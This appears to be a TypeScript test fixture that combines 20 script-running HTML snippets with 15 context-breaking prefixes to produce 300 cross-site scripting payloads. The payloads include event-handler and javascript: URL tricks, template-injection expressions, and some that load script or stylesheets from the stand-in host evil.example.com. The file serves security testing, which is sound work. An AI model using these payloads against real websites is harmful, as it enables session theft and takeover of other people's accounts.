/** What runs, in the texts that come in. Each calls alert(), which a browser of these journeys reports. */
const RUNNING = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example.com/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<style>@import "https://evil.example.com/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example.com/x.css">',
  '<base href="https://evil.example.com/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example.com/">',
  '<object data="javascript:alert(1)"></object>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  'javascript:alert(1)',
] as const;

/** What ends the place that a text stands in, so that it stands in another one. */
const ENDINGS = [
  '',
  '">',
  "'>",
  '" onmouseover=alert(1) x="',
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '</option></select>',
  '</td></table>',
  '\u0000">',
  '&quot;&gt;',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}',
] as const;

/** 300 texts that would run a script where a page took one of them for its own. */
export const PAYLOADS: readonly string[] = ENDINGS.flatMap((ending) =>
  RUNNING.map((running) => `${ending}${running}`),
);
